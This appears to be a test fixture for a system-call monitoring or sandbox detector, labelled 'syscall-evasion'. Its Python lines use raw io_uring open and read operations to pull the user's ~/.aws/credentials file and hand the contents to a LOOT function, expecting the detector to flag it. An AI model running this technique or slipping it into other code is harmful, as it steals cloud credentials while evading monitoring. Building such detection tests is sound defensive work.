#: {"class": "syscall-evasion", "loader": "script", "include": ["uring"], "expect": [["io_uring|open", "."]], "effect": {"loot": "aws"}}
u = Uring(); p = ctypes.create_string_buffer((HOME + "/.aws/credentials").encode()); b = ctypes.create_string_buffer(999)
fd = u.do(18, -100, 0, ctypes.addressof(p)); n = u.do(22, fd, 0, ctypes.addressof(b), 999)
LOOT(b.raw[:n])
